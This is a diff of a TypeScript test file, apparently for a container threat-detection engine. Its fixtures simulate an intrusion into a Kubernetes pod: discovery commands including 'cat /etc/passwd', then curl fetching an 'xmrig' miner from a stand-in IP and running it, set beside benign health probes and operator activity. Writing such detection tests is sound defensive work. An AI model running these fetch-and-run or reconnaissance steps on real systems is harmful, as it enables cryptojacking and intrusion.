@@ -23,8 +23,7 @@ async function matchesOf(capture: Buffer): Promise<ChainMatch[]> {
 }
 
 const of = (matches: ChainMatch[], chain: string): string[] => matches.filter((m) => m.chain === chain).map(describeMatch);
-const pathOf = (m: ChainMatch | undefined, step: number): string =>
-  (m?.steps[step]?.path ?? []).map((p) => `${p.name},${p.pid}`).join(' → ');
+const pathOf = (m: ChainMatch | undefined, step: number): string => (m?.steps[step]?.path ?? []).map((p) => `${p.name},${p.pid}`).join(' → ');
 
 const USERS = [
   { uid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
@@ -40,10 +39,20 @@ const HOST_THREADS = [
 ];
 
 /** `parent` forks `child`, which runs `path args`; options for the fork (uid, pid namespace, …). */
-function run(b: CaptureBuilder, parent: number, child: number, path: string, args: string[] = [], fork: Parameters<CaptureBuilder['fork']>[2] = {}, cgroups?: string[]): CaptureBuilder {
+function run(
+  b: CaptureBuilder,
+  parent: number,
+  child: number,
+  path: string,
+  args: string[] = [],
+  fork: Parameters<CaptureBuilder['fork']>[2] = {},
+  cgroups?: string[],
+): CaptureBuilder {
   // A child that changes user reports it on its own clone exit, written first (as after setuid).
   const sides = fork.uid !== undefined ? { sides: ['child', 'caller'] as ('child' | 'caller')[] } : {};
-  return b.fork(parent, child, { ...sides, ...fork }).exec(child, { filename: path, argv0: path.slice(path.lastIndexOf('/') + 1), args, ...(cgroups ? { cgroups } : {}) });
+  return b
+    .fork(parent, child, { ...sides, ...fork })
+    .exec(child, { filename: path, argv0: path.slice(path.lastIndexOf('/') + 1), args, ...(cgroups ? { cgroups } : {}) });
 }
 
 /** cron's way of running a job: a cron child (exits when the job ends) whose shell runs the line. */
@@ -120,12 +129,28 @@ describe(`chain: ${INTERACTIVE}`, () => {
         threads: [
           ...HOST_THREADS,
           { tid: 2301, pid: 2301, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
-          { tid: 2330, pid: 2330, ptid: 2301, vtid: 1, vpid: 1, comm: 'node', exe: 'node', exepath: '/usr/local/bin/node', args: ['server.js'], cgroups: dockerCgroups(POD) },
+          {
+            tid: 2330,
+            pid: 2330,
+            ptid: 2301,
+            vtid: 1,
+            vpid: 1,
+            comm: 'node',
+            exe: 'node',
+            exepath: '/usr/local/bin/node',
+            args: ['server.js'],
+            cgroups: dockerCgroups(POD),
+          },
           { tid: 2401, pid: 2401, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
         ],
       },
       (b) => {
-        b.container({ id: POD, name: 'shop-api', image: 'registry.example.com/shop/api:4.2', labels: { 'io.kubernetes.pod.name': 'shop-api-7d9', 'io.kubernetes.pod.namespace': 'shop' } });
+        b.container({
+          id: POD,
+          name: 'shop-api',
+          image: 'registry.example.com/shop/api:4.2',
+          labels: { 'io.kubernetes.pod.name': 'shop-api-7d9', 'io.kubernetes.pod.namespace': 'shop' },
+        });
         b.container({ id: OPS, name: 'batch', image: 'docker.io/library/alpine:3.20' });
         const inPod = { flags: CL.CHILD_IN_PIDNS };
         /** An exec into the pod: the shim starts runc, whose child joins the pod and runs the shell. */
@@ -136,25 +161,49 @@ describe(`chain: ${INTERACTIVE}`, () => {
         b.filler(2330, 40);
         // benign: the kubelet's exec probe fetches the health endpoint every 10 s
         enter(5000, 5001, 40, ['-c', 'wget -q -O- http://127.0.0.1:8080/healthz']);
-        run(b, 5001, 5002, '/usr/bin/wget', ['-q', '-O-', 'http://127.0.0.1:8080/healthz'], { ...inPod, vtid: 41 }).exit(5002).exit(5001).exit(5000);
+        run(b, 5001, 5002, '/usr/bin/wget', ['-q', '-O-', 'http://127.0.0.1:8080/healthz'], { ...inPod, vtid: 41 })
+          .exit(5002)
+          .exit(5001)
+          .exit(5000);
         // benign: an operator looks around and leaves
         enter(5100, 5101, 42, []);
         run(b, 5101, 5102, '/bin/ps', ['aux'], { ...inPod, vtid: 43 }).exit(5102);
         run(b, 5101, 5103, '/usr/bin/env', [], { ...inPod, vtid: 44 }).exit(5103);
-        run(b, 5101, 5104, '/bin/cat', ['/etc/os-release'], { ...inPod, vtid: 45 }).exit(5104).exit(5101).exit(5100);
+        run(b, 5101, 5104, '/bin/cat', ['/etc/os-release'], { ...inPod, vtid: 45 })
+          .exit(5104)
+          .exit(5101)
+          .exit(5100);
         // benign: a batch container's entrypoint (its init, vpid 1) checks who it is and fetches its input
         run(b, 2401, 5200, '/usr/bin/runc', ['init']);
-        run(b, 5200, 5201, '/bin/sh', ['-c', 'id && wget -q -O /tmp/input.csv https://data.example.com/input.csv && exec /app/batch'], { flags: CL.CHILD_IN_PIDNS | CL.NEWPID, vtid: 1 }, dockerCgroups(OPS));
+        run(
+          b,
+          5200,
+          5201,
+          '/bin/sh',
+          ['-c', 'id && wget -q -O /tmp/input.csv https://data.example.com/input.csv && exec /app/batch'],
+          { flags: CL.CHILD_IN_PIDNS | CL.NEWPID, vtid: 1 },
+          dockerCgroups(OPS),
+        );
         run(b, 5201, 5202, '/usr/bin/id', [], { ...inPod, vtid: 2 }).exit(5202);
         run(b, 5201, 5203, '/usr/bin/wget', ['-q', '-O', '/tmp/input.csv', 'https://data.example.com/input.csv'], { ...inPod, vtid: 3 }).exit(5203);
         // the attack: an interactive shell in the pod, discovery, then a miner fetched and started
         b.tick(300_000_000_000n);
         enter(5300, 5301, 50, ['-i']);
-        for (const [i, [path, args]] of ([['/usr/bin/id', []], ['/usr/bin/whoami', []], ['/bin/uname', ['-a']], ['/bin/cat', ['/etc/passwd']], ['/usr/bin/env', []]] as [string, string[]][]).entries()) {
+        for (const [i, [path, args]] of (
+          [
+            ['/usr/bin/id', []],
+            ['/usr/bin/whoami', []],
+            ['/bin/uname', ['-a']],
+            ['/bin/cat', ['/etc/passwd']],
+            ['/usr/bin/env', []],
+          ] as [string, string[]][]
+        ).entries()) {
           run(b, 5301, 5310 + i, path, args, { ...inPod, vtid: 51 + i }).exit(5310 + i);
           b.tick(2_000_000_000n);
         }
-        run(b, 5301, 5320, '/usr/bin/curl', ['-sLo', '/tmp/xmrig', 'http://203.0.113.77/xmrig'], { ...inPod, vtid: 60 }).filler(5320, 30).exit(5320);
+        run(b, 5301, 5320, '/usr/bin/curl', ['-sLo', '/tmp/xmrig', 'http://203.0.113.77/xmrig'], { ...inPod, vtid: 60 })
+          .filler(5320, 30)
+          .exit(5320);
         run(b, 5301, 5321, '/tmp/xmrig', ['--donate-level', '1'], { ...inPod, vtid: 61 }).filler(5321, 30);
         b.filler(2330, 40);
       },
@@ -228,7 +277,18 @@ describe(`chain: ${BUILD}`, () => {
         threads: [
           ...HOST_THREADS,
           { tid: 2501, pid: 2501, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
-          { tid: 2530, pid: 2530, ptid: 2501, vtid: 1, vpid: 1, comm: 'python3', exe: 'python3', exepath: '/usr/bin/python3', args: ['app.py'], cgroups: dockerCgroups(DEV) },
+          {
+            tid: 2530,
+            pid: 2530,
+            ptid: 2501,
+            vtid: 1,
+            vpid: 1,
+            comm: 'python3',
+            exe: 'python3',
+            exepath: '/usr/bin/python3',
+            args: ['app.py'],
+            cgroups: dockerCgroups(DEV),
+          },
           { tid: 2601, pid: 2601, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
           { tid: 2630, pid: 2630, ptid: 2601, vtid: 1, vpid: 1, comm: 'bash', exe: 'bash', exepath: '/bin/bash', args: ['ci.sh'], cgroups: dockerCgroups(CI) },
         ],
@@ -258,7 +318,11 @@ describe(`chain: ${BUILD}`, () => {
 
   it('finds the install and the build, each followed by the program run from /tmp in the same container', async () => {
     const matches = await matchesOf(capture());
-    expect(of(matches, BUILD)).toEqual([`${BUILD}: build=apt-get,6101 run=.p,6104`, `${BUILD}: build=dpkg,6102 run=.p,6104`, `${BUILD}: build=gcc,6103 run=.p,6104`]);
+    expect(of(matches, BUILD)).toEqual([
+      `${BUILD}: build=apt-get,6101 run=.p,6104`,
+      `${BUILD}: build=dpkg,6102 run=.p,6104`,
+      `${BUILD}: build=gcc,6103 run=.p,6104`,
+    ]);
     expect(matches.find((x) => x.chain === BUILD)?.containerId).toBe(DEV.slice(0, 12));
   });
 
